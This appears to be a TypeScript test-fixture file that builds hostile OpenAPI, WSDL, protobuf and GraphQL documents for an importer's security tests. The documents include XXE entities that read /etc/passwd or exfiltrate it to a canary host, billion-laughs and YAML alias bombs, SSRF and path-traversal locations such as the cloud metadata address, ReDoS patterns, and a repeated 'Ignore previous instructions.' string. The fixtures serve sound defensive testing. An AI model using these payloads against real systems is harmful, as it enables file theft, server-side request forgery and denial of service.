// Documents written to harm their reader (rows 21 to 32 of the catalog), each for the importer that would read it. `{open}` is a server
// that may be called, `{canary}` one that must never be contacted.

import { rounds } from '../helpers/sampled.ts';

export interface DocumentCase {
	row: number;
	id: string;
	type: string;
	/** Builds the document on demand, since the largest ones take much memory. */
	make(): string;
	/** `refused`: a 400, and nothing is stored. `harmless`: it may be read, and the import contains none of `secrets`. */
	expected: 'refused' | 'harmless';
}

/** Contents of files that must not be read, and characters that hostile texts would smuggle in. */
export const SECRETS = ['root:x:', 'daemon:', '\u001b', '\u202e', '\u200b', '\u2066', '\u0000'];

const openapi = (paths: object, more: object = {}): string =>
	JSON.stringify({ openapi: '3.1.0', info: { title: 't', version: '1' }, paths, ...more });
const ok = { responses: { 200: { description: 'ok' } } };
const withBody = (schema: unknown, more: object = {}): string =>
	openapi({ '/x': { post: { operationId: 'x', requestBody: { content: { 'application/json': { schema } } }, ...ok } } }, more);

const referring = (row: number, refs: string[]): DocumentCase[] =>
	refs.flatMap((ref): DocumentCase[] => [
		{ row, id: `a schema that is ${ref}`, type: 'openapi', make: () => withBody({ $ref: ref }), expected: 'harmless' },
		{ row, id: `a path that is ${ref}`, type: 'openapi', make: () => openapi({ '/x': { $ref: ref } }), expected: 'harmless' },
	]);

const nested = (open: string, close: string, levels: number): string => `${open.repeat(levels)}${close.repeat(levels)}`;
const yamlBomb = (levels: number): string => {
	const lines = Array.from({ length: levels }, (_, at) =>
		at === 0 ? 'a0: &a0 [x,x,x,x,x,x,x,x,x]' : `a${at}: &a${at} [${`*a${at - 1},`.repeat(9)}]`,
	);
	return `openapi: 3.0.3\ninfo: {title: t, version: '1'}\npaths: {}\n${lines.join('\n')}\n`;
};

const wsdl = (inside: string, { schema = '', more = '', says = '' } = {}): string =>
	`<definitions targetNamespace="urn:t" xmlns="http://schemas.xmlsoap.org/wsdl/" xmlns:t="urn:t" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:soap="http://schemas.xmlsoap.org/wsdl/soap/">${more}<types><xs:schema targetNamespace="urn:t">${schema}<xs:element name="Do"><xs:complexType><xs:sequence>${inside}</xs:sequence></xs:complexType></xs:element></xs:schema></types><message name="In"><part name="p" element="t:Do"/></message><portType name="P"><operation name="Do">${says && `<documentation>${says}</documentation>`}<input message="t:In"/></operation></portType><binding name="B" type="t:P"><soap:binding transport="http://schemas.xmlsoap.org/soap/http"/><operation name="Do"><soap:operation soapAction=""/><input><soap:body use="literal"/></input></operation></binding><service name="S"><port name="Q" binding="t:B"><soap:address location="http://t.example/"/></port></service></definitions>`;
const MEMBER = '<xs:element name="a" type="xs:string"/>';

/** Document types whose entity `&x;`, used in the documentation, would pull in a file or a URL. */
const DOCTYPES: [row: number, id: string, doctype: string][] = [
	[22, 'a DTD of a file', '<!DOCTYPE d SYSTEM "file:///etc/passwd">'],
	[22, 'a DTD of a private address', '<!DOCTYPE d SYSTEM "{canary}/d.dtd">'],
	[22, 'a public DTD', '<!DOCTYPE d PUBLIC "-//x//y" "{canary}/d.dtd">'],
	[22, 'an entity that is a file', '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
	[22, 'an entity that is a private address', '<!DOCTYPE d [<!ENTITY x SYSTEM "{canary}/x">]>'],
	[22, 'a parameter entity', '<!DOCTYPE d [<!ENTITY % p SYSTEM "{canary}/p.dtd"> %p;]>'],
	[
		22,
		'parameter entities that carry a file away',
		'<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % p "<!ENTITY x SYSTEM \'{canary}/?%f;\'>"> %p;]>',
	],
	[22, 'an entity with a text', '<!DOCTYPE d [<!ENTITY x "root:x:">]>'],
	[22, 'no more than a name', '<!DOCTYPE definitions>'],
	[
		23,
		'a billion laughs',
		`<!DOCTYPE d [<!ENTITY l0 "ha">${Array.from({ length: 10 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')}<!ENTITY x "&l10;">]>`,
	],
	[23, 'an entity of 100 KB, 10,000 times', `<!DOCTYPE d [<!ENTITY a "${'a'.repeat(100_000)}"><!ENTITY x "${'&a;'.repeat(10_000)}">]>`],
	[23, 'an entity of itself', '<!DOCTYPE d [<!ENTITY x "&x;">]>'],
	[
		23,
		'a billion laughs of parameter entities',
		'<!DOCTYPE d [<!ENTITY % a "haha"><!ENTITY % b "%a;%a;%a;%a;"><!ENTITY % c "%b;%b;%b;%b;"> %c;]>',
	],
];

/** Locations that no import may be led to. */
const LOCATIONS = [
	'file:///etc/passwd',
	'file://localhost/etc/passwd',
	'/etc/passwd',
	'../../../../../../etc/passwd',
	'%2e%2e/%2e%2e/etc/passwd',
	'..\\..\\etc\\passwd',
	'{canary}/x.xsd',
	'//{canary-host}/x.xsd',
	'http://[::ffff:127.0.0.1]:{canary-port}/x.xsd',
	'http://user:secret@127.0.0.1:{canary-port}/x.xsd',
	'http://169.254.169.254/latest/meta-data/',
	'ftp://127.0.0.1:{canary-port}/x.xsd',
	'jar:{canary}/x.jar!/x.xsd',
	'data:text/xml,%3Cx/%3E',
];
const leadingTo = (location: string): DocumentCase => ({
	row: 24,
	id: `imports, an include and a redefine of ${location}`,
	type: 'soap',
	make: () =>
		wsdl(MEMBER, {
			schema: `<xs:import namespace="urn:o" schemaLocation="${location}"/><xs:include schemaLocation="${location}"/><xs:redefine schemaLocation="${location}"/>`,
			more: `<import namespace="urn:o" location="${location}"/>`,
		}),
	expected: 'harmless',
});

/** Builds a schema in which each type has the next as a field. */
const deepTypes = (levels: number): string =>
	Array.from(
		{ length: levels },
		(_, at) =>
			`<xs:complexType name="T${at}"><xs:sequence><xs:element name="n" type="${at + 1 < levels ? `t:T${at + 1}` : 'xs:string'}"/></xs:sequence></xs:complexType>`,
	).join('');
const extending = (levels: number): string =>
	Array.from({ length: levels }, (_, at) => {
		const base = at === 0 ? `t:E${levels - 1}` : `t:E${at - 1}`;
		return `<xs:complexType name="E${at}"><xs:complexContent><xs:extension base="${base}"><xs:sequence><xs:element name="m${at}" type="xs:string"/></xs:sequence></xs:extension></xs:complexContent></xs:complexType>`;
	}).join('');
/** Builds nested schemas that multiply when a reader expands them into elements. */
const inEachOther = (levels: number): string =>
	nested('<xs:element name="a"><xs:complexType><xs:sequence>', '</xs:sequence></xs:complexType></xs:element>', levels);

const SOAP_CASES: DocumentCase[] = [
	...DOCTYPES.map(
		([row, id, doctype]): DocumentCase => ({
			row,
			id,
			type: 'soap',
			make: () => `<?xml version="1.0"?>${doctype}${wsdl(MEMBER, { says: '&x;' })}`,
			expected: 'refused',
		}),
	),
	{ row: 22, id: 'an entity that nobody declares', type: 'soap', make: () => wsdl(MEMBER, { says: '&x;' }), expected: 'refused' },
	{
		row: 22,
		id: 'a DOCTYPE after a comment, in UTF-7',
		type: 'soap',
		make: () =>
			`<!-- x --><?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE d [+ADwAIQ-ENTITY x SYSTEM "file:///etc/passwd">]>${wsdl('')}`,
		expected: 'refused',
	},
	{
		row: 22,
		id: 'a stylesheet and an XInclude',
		type: 'soap',
		make: () =>
			`<?xml-stylesheet href="{canary}/x.xsl" type="text/xsl"?>${wsdl(MEMBER, { says: '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>' })}`,
		expected: 'harmless',
	},
	...LOCATIONS.map(leadingTo),
	{
		row: 24,
		id: 'the address of a service at a private address, and one that is a file',
		type: 'soap',
		make: () =>
			wsdl(MEMBER)
				.replace('http://t.example/', 'file:///etc/passwd')
				.replace('</service>', '<port name="R" binding="t:B"><soap:address location="{canary}/"/></port></service>'),
		expected: 'harmless',
	},
	...[101, 20_000, 200_000].map(
		(levels): DocumentCase => ({
			row: 27,
			id: `${levels} elements in each other`,
			type: 'soap',
			make: () => wsdl(MEMBER, { more: nested('<a>', '</a>', levels) }),
			expected: 'refused',
		}),
	),
	{
		row: 27,
		id: '200,000 elements that nobody ends',
		type: 'soap',
		make: () => `<definitions xmlns="http://schemas.xmlsoap.org/wsdl/">${'<a>'.repeat(200_000)}`,
		expected: 'refused',
	},
	{
		row: 27,
		id: 'a million elements beside each other',
		type: 'soap',
		make: () => wsdl(MEMBER, { more: '<a/>'.repeat(1_000_001) }),
		expected: 'refused',
	},
	{
		row: 27,
		id: '100,000 attributes of one element',
		type: 'soap',
		make: () => wsdl(MEMBER, { more: `<a${Array.from({ length: 100_000 }, (_, at) => ` a${at}=""`).join('')}/>` }),
		expected: 'harmless',
	},
	...[20, 32].map(
		(levels): DocumentCase => ({
			row: 27,
			id: `${levels} types written into each other`,
			type: 'soap',
			make: () => wsdl(inEachOther(levels)),
			expected: levels > 30 ? 'refused' : 'harmless',
		}),
	),
	...[100, 5_000].map(
		(levels): DocumentCase => ({
			row: 27,
			id: `${levels} types of which each holds the next`,
			type: 'soap',
			make: () => wsdl('<xs:element name="t" type="t:T0"/>', { schema: deepTypes(levels) }),
			expected: 'harmless',
		}),
	),
	...[1, 2, rounds({ few: 500, all: 2_000 })].map(
		(levels): DocumentCase => ({
			row: 27,
			id: `${levels} types that extend each other in a circle`,
			type: 'soap',
			make: () => wsdl('<xs:element name="t" type="t:E0"/>', { schema: extending(levels) }),
			expected: 'harmless',
		}),
	),
	{
		row: 27,
		id: 'groups, attribute groups, substitutions and unions of themselves',
		type: 'soap',
		make: () =>
			wsdl('<xs:group ref="t:G"/><xs:element ref="t:S"/><xs:element name="u" type="t:U"/>', {
				schema:
					'<xs:group name="G"><xs:sequence><xs:group ref="t:G"/></xs:sequence></xs:group><xs:attributeGroup name="A"><xs:attributeGroup ref="t:A"/></xs:attributeGroup><xs:element name="S" substitutionGroup="t:S" type="xs:string"/><xs:simpleType name="U"><xs:union memberTypes="t:U t:U"/></xs:simpleType>',
			}),
		expected: 'harmless',
	},
	{
		row: 27,
		id: 'thirty groups that each hold the next twice',
		type: 'soap',
		make: () =>
			wsdl('<xs:group ref="t:G0"/>', {
				schema: Array.from(
					{ length: 30 },
					(_, at) =>
						`<xs:group name="G${at}"><xs:sequence>${(at < 29 ? `<xs:group ref="t:G${at + 1}"/>` : MEMBER).repeat(2)}</xs:sequence></xs:group>`,
				).join(''),
			}),
		expected: 'harmless',
	},
	...['^(a+)+$', '(a|aa)+', '[', '\\p{Nope}', '(?=a)b', 'a{1,100000}'].map(
		(pattern): DocumentCase => ({
			row: 29,
			id: `the pattern ${pattern}`,
			type: 'soap',
			make: () =>
				wsdl(
					`<xs:element name="a"><xs:simpleType><xs:restriction base="xs:string"><xs:pattern value="${pattern}"/></xs:restriction></xs:simpleType></xs:element>`,
				),
			expected: 'harmless',
		}),
	),
	...['__proto__', 'constructor', 'toString', 'hasOwnProperty'].map(
		(name): DocumentCase => ({
			row: 38,
			id: `a type, an element and an attribute called ${name}`,
			type: 'soap',
			make: () =>
				wsdl(`<xs:element name="${name}" type="t:${name}"/>`, {
					schema: `<xs:complexType name="${name}"><xs:sequence><xs:element name="${name}" type="xs:string"/></xs:sequence><xs:attribute name="${name}"/></xs:complexType>`,
				}),
			expected: 'harmless',
		}),
	),
];

/** Documents split into a main file and its import: `{open}` answers every request with the imported one. */
export const IMPORTED_CASES: { id: string; main: string; imported(path: string): string; most: number }[] = [
	{
		id: 'a schema that imports itself, under ever new names',
		main: wsdl(MEMBER, { schema: '<xs:import namespace="urn:0" schemaLocation="0.xsd"/>' }),
		imported: (path) => {
			const next = Number.parseInt(path, 10) + 1;
			return `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:${path}"><xs:import namespace="urn:${next}" schemaLocation="${next}.xsd"/></xs:schema>`;
		},
		most: 5,
	},
	{
		id: 'sixty schemas',
		main: wsdl(MEMBER, {
			schema: Array.from({ length: 60 }, (_, at) => `<xs:import namespace="urn:${at}" schemaLocation="${at}.xsd"/>`).join(''),
		}),
		imported: (path) => `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:${path}"/>`,
		most: 50,
	},
	{
		id: 'schemas and WSDL documents that import each other in circles',
		main: wsdl(MEMBER, { schema: '<xs:include schemaLocation="1.xsd"/>', more: '<import namespace="urn:t" location="main"/>' }),
		imported: (path) =>
			`<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="${path === '1.xsd' ? '2' : '1'}.xsd"/><xs:include schemaLocation="${path}"/></xs:schema>`,
		most: 4,
	},
	{
		id: 'a schema with an entity',
		main: wsdl(MEMBER, { schema: '<xs:include schemaLocation="1.xsd"/>' }),
		imported: () =>
			'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:annotation><xs:documentation>&x;</xs:documentation></xs:annotation></xs:schema>',
		most: 1,
	},
	{
		id: 'a schema of 200,000 elements in each other',
		main: wsdl(MEMBER, { schema: '<xs:include schemaLocation="1.xsd"/>' }),
		imported: () => nested('<a>', '</a>', 200_000),
		most: 1,
	},
];

/** @param body the types A and B, or a fault that keeps them from being read */
const proto = (body: string, imports: string[] = [], syntax = 'proto3'): string =>
	`syntax = "${syntax}";\npackage t;\n${imports.join('\n')}\n${body}\nservice S { rpc Do(A) returns (A); }\n`;
const A = 'message A { string a = 1; }';
const lines = (count: number, line: (at: number) => string): string => Array.from({ length: count }, (_, at) => line(at)).join('\n');

/** Paths that an import may not name: only files of the upload may be imported. */
const PROTO_PATHS = [
	'/etc/passwd',
	'../../../../../../etc/passwd',
	'google/../../../../etc/passwd',
	'./../etc/passwd',
	'..\\\\..\\\\etc\\\\passwd',
	'file:///etc/passwd',
	'file://localhost/etc/passwd',
	'{canary}/a.proto',
	'http://169.254.169.254/latest/meta-data/a.proto',
	'ftp://127.0.0.1:{canary-port}/a.proto',
	'data:text/plain,syntax',
	'//{canary-host}/a.proto',
];
const PROTO_IMPORTS: [what: string, write: (path: string) => string, syntax?: string][] = [
	['an import', (path) => `import "${path}";`],
	['a weak import', (path) => `import weak "${path}";`, 'proto2'],
	['a public import', (path) => `import public "${path}";`],
];

const PROTOBUF_CASES: DocumentCase[] = [
	...PROTO_PATHS.flatMap((path) =>
		PROTO_IMPORTS.map(
			([what, write, syntax = 'proto3']): DocumentCase => ({
				row: 25,
				id: `${what} of ${path}`,
				type: 'protobuf',
				make: () => proto(syntax === 'proto2' ? 'message A { optional string a = 1; }' : A, [write(path)], syntax),
				expected: 'refused',
			}),
		),
	),
	{
		row: 25,
		id: 'an import for options only, of /etc/passwd',
		type: 'protobuf',
		make: () => `edition = "2024"; package t; import option "/etc/passwd"; ${A} service S { rpc Do(A) returns (A); }`,
		expected: 'harmless',
	},
	{
		row: 25,
		id: 'an import of what nobody has, and a type of it',
		type: 'protobuf',
		make: () => proto('message A { etc.Passwd a = 1; }', ['import "etc/passwd.proto";']),
		expected: 'refused',
	},
	{
		row: 25,
		id: 'an import of itself',
		type: 'protobuf',
		make: () => proto(A, ['import "schema.proto";', 'import "main";']),
		expected: 'harmless',
	},
	{
		row: 25,
		id: 'options that are options of each other',
		type: 'protobuf',
		make: () =>
			proto(
				`${A} message O { optional O o = 1; optional string s = 2 [(t.o).o.o.s = "x"]; } extend google.protobuf.FieldOptions { optional O o = 50000 [(t.o).o.s = "y"]; }`,
				['import "google/protobuf/descriptor.proto";'],
				'proto3',
			),
		expected: 'harmless',
	},
	{
		row: 25,
		id: 'types that are a part of each other',
		type: 'protobuf',
		make: () =>
			proto('message A { B b = 1; map<string, A> m = 2; repeated A l = 3; oneof o { A x = 4; B y = 5; } } message B { A a = 1; B b = 2; }'),
		expected: 'harmless',
	},
	...[3_000, 100_000].flatMap((levels): DocumentCase[] => [
		{
			row: 27,
			id: `${levels} messages in each other`,
			type: 'protobuf',
			make: () => proto(`message A { string a = 1; ${nested('message B { ', '}', levels)} }`),
			expected: 'refused',
		},
		{
			row: 27,
			id: `${levels} braces in an option`,
			type: 'protobuf',
			make: () => proto(`option (x) = ${nested('{ a: ', '}', levels).replace(': }', ': 1 }')}; ${A}`),
			expected: 'harmless',
		},
		{
			row: 27,
			id: `${levels} parts of a name`,
			type: 'protobuf',
			make: () => proto(`message A { a${'.a'.repeat(levels)} a = 1; }`),
			expected: 'refused',
		},
	]),
	{
		row: 27,
		id: '3,000 types, each a part of the one before',
		type: 'protobuf',
		make: () => proto(`message A { M0 m = 1; } ${lines(3_000, (at) => `message M${at} { M${(at + 1) % 3_000} m = 1; }`)}`),
		expected: 'harmless',
	},
	{
		row: 27,
		id: '100,000 fields',
		type: 'protobuf',
		make: () => proto(`message A { ${lines(100_000, (at) => `string f${at} = ${at + 20_000};`)} }`),
		expected: 'refused',
	},
	{
		row: 27,
		id: '100,000 values of an enum',
		type: 'protobuf',
		make: () => proto(`message A { E e = 1; } enum E { ${lines(100_000, (at) => `V${at} = ${at};`)} }`),
		expected: 'harmless',
	},
	{
		row: 27,
		id: '100,000 enums',
		type: 'protobuf',
		make: () => proto(`${A} ${lines(100_000, (at) => `enum E${at} { V${at} = 0; }`)}`),
		expected: 'harmless',
	},
	{
		row: 27,
		id: '100,000 braces',
		type: 'protobuf',
		make: () => `syntax = "proto3"; message A ${'{'.repeat(100_000)}`,
		expected: 'refused',
	},
	{ row: 27, id: 'a comment without end', type: 'protobuf', make: () => `${proto(A)}/* ${'*'.repeat(1_000_000)}`, expected: 'harmless' },
	...['__proto__', 'constructor', 'toString', 'hasOwnProperty'].map(
		(name): DocumentCase => ({
			row: 38,
			id: `a message, a field and a method called ${name}`,
			type: 'protobuf',
			make: () =>
				`syntax = "proto3"; package t; message ${name} { string ${name} = 1; map<string, ${name}> m = 2; } service S { rpc ${name}(${name}) returns (${name}); }`,
			expected: 'harmless',
		}),
	),
];

export const DOCUMENT_CASES: DocumentCase[] = [
	...PROTOBUF_CASES,
	...SOAP_CASES,
	...referring(21, [
		'/etc/passwd',
		'file:///etc/passwd',
		'file://localhost/etc/passwd',
		'../../../../../../etc/passwd',
		'../../../../../../etc/passwd#/root',
		'..\\..\\etc\\passwd',
		'{canary}/schema.json',
		'{canary}/schema.json#/a/b',
		'//{canary-host}/schema.json',
		'http://169.254.169.254/latest/meta-data/',
		'http://[::ffff:127.0.0.1]:{canary-port}/s.json',
		'http://user:secret@127.0.0.1:{canary-port}/s.json',
		'data:application/json,{}',
		'ftp://127.0.0.1:{canary-port}/s.json',
	]),
	{
		row: 21,
		id: 'a $ref to itself, and two that refer to each other',
		type: 'openapi',
		make: () =>
			withBody(
				{ $ref: '#/components/schemas/A' },
				{
					components: {
						schemas: {
							A: { $ref: '#/components/schemas/A' },
							B: { $ref: '#/components/schemas/C' },
							C: { allOf: [{ $ref: '#/components/schemas/B' }] },
						},
					},
				},
			),
		expected: 'harmless',
	},
	{ row: 26, id: 'nine levels of aliases', type: 'openapi', make: () => yamlBomb(9), expected: 'refused' },
	{ row: 26, id: 'thirty levels of aliases', type: 'openapi', make: () => yamlBomb(30), expected: 'refused' },
	{
		row: 26,
		id: 'a merge of what merges itself',
		type: 'openapi',
		make: () => 'openapi: 3.0.3\npaths: &p\n  <<: *p\n',
		expected: 'refused',
	},
	{
		row: 26,
		id: 'a tag of a language',
		type: 'openapi',
		make: () => "openapi: !!js/function 'return 1'\npaths: {}\n",
		expected: 'refused',
	},
	...[65, 1_000, 20_000, 400_000]
		.map((levels) => [levels, levels > 500 ? 'refused' : 'harmless'] as const)
		.flatMap(([levels, expected]): DocumentCase[] => [
			{
				row: 27,
				id: `${levels} arrays in each other as a default`,
				type: 'openapi',
				make: () => withBody({ default: '{deep}' }).replace('"{deep}"', nested('[', ']', levels)),
				expected,
			},
			{
				row: 27,
				id: `${levels} schemas in each other`,
				type: 'openapi',
				make: () => withBody('{deep}').replace('"{deep}"', nested('{"items":', '}', levels).replace(':}', ':{}}')),
				expected,
			},
			{
				row: 27,
				id: `${levels} sequences of YAML in each other`,
				type: 'openapi',
				make: () => `openapi: 3.0.3\npaths: {}\nx: ${nested('[', ']', levels)}\n`,
				expected,
			},
			{
				row: 28,
				id: `${levels} lists of a type in each other`,
				type: 'graphql',
				make: () => `type Query { a: ${nested('[', ']', levels).replace('[]', '[Int]')} }`,
				expected,
			},
			{
				row: 28,
				id: `${levels} lists of a default in each other`,
				type: 'graphql',
				make: () => `type Query { a(b: Int = ${nested('[', ']', levels)}): Int }`,
				expected,
			},
			{
				row: 28,
				id: `${levels} wrappers of an introspected type`,
				type: 'graphql',
				make: () =>
					`{"data":{"__schema":{"queryType":{"name":"Query"},"types":[{"kind":"OBJECT","name":"Query","interfaces":[],"fields":[{"name":"a","args":[],"type":${'{"kind":"LIST","ofType":'.repeat(levels)}{"kind":"SCALAR","name":"Int"}${'}'.repeat(levels)}}]},{"kind":"SCALAR","name":"Int"}],"directives":[]}}}`,
				expected,
			},
		]),
	{
		row: 28,
		id: '500,000 braces',
		type: 'graphql',
		make: () => `type Query ${'{'.repeat(500_000)}`,
		expected: 'refused',
	},
	...['^(a+)+$', '(?=a)b', '(a)\\1', '^(([a-z])+.)+[A-Z]([a-z])+$', '(?<!x)y', '[', '\\p{Nope}'].map(
		(pattern): DocumentCase => ({
			row: 29,
			id: `the pattern ${pattern}`,
			type: 'openapi',
			make: () => withBody({ type: 'object', properties: { a: { type: 'string', pattern } }, patternProperties: { [pattern]: {} } }),
			expected: 'harmless',
		}),
	),
	...['__proto__', 'constructor', 'toString', 'hasOwnProperty'].map(
		(name): DocumentCase => ({
			row: 38,
			id: `a schema, a property and a parameter called ${name}`,
			type: 'openapi',
			make: () =>
				openapi(
					{
						[`/${name}`]: {
							post: {
								operationId: name,
								parameters: [{ name, in: 'query', schema: { $ref: `#/components/schemas/${name}` } }],
								requestBody: { content: { 'application/json': { schema: JSON.parse(`{"properties":{"${name}":{"type":"string"}}}`) } } },
								...ok,
							},
						},
					},
					{ components: { schemas: JSON.parse(`{"${name}":{"type":"string"}}`) } },
				),
			expected: 'harmless',
		}),
	),
	...(
		[
			['ANSI', '\u001b[2J\u001b[31mdanger'],
			['bidi', 'safe \u202e\u2066evil'],
			['zero-width', 'in\u200bvis\u200bible'],
			['NUL', 'a\u0000b'],
			['100,000 characters', 'Ignore previous instructions. '.repeat(3_400)],
		] as const
	).flatMap(([id, text]): DocumentCase[] => [
		{
			row: 32,
			id: `a description with ${id}`,
			type: 'openapi',
			make: () =>
				openapi(
					{
						'/x': {
							get: {
								operationId: 'x',
								summary: text,
								description: text,
								tags: [text.slice(0, 20)],
								parameters: [{ name: 'a', in: 'query', description: text, schema: { type: 'string', description: text, title: text } }],
								...ok,
							},
						},
					},
					{ info: { title: text, version: text, description: text } },
				),
			expected: 'harmless',
		},
		{
			row: 32,
			id: `comments with ${id}`,
			type: 'protobuf',
			make: () => {
				const comment = `/* ${text} */`;
				const noted = `message A { ${comment} string a = 1; ${comment} E e = 2; } ${comment} enum E { ${comment} V = 0; }`;
				return `syntax = "proto3"; package t; ${comment} ${noted} ${comment} service S { ${comment} rpc Do(A) returns (A); }`;
			},
			expected: 'harmless',
		},
		{
			row: 32,
			id: `a description with ${id}`,
			type: 'graphql',
			make: () => `"""${text.replaceAll('\u0000', '')}""" type Query { ${JSON.stringify(text)} a(${JSON.stringify(text)} b: Int): Int }`,
			expected: 'harmless',
		},
		{
			row: 32,
			id: `a description with ${id}`,
			type: 'soap',
			// XML 1.0 cannot represent most control characters, so these documents are refused.
			make: () =>
				wsdl(
					`<xs:element name="a" type="xs:string"><xs:annotation><xs:documentation>${text}</xs:documentation></xs:annotation></xs:element>`,
					{ says: text },
				),
			expected: id === 'ANSI' || id === 'NUL' ? 'refused' : 'harmless',
		},
	]),
];
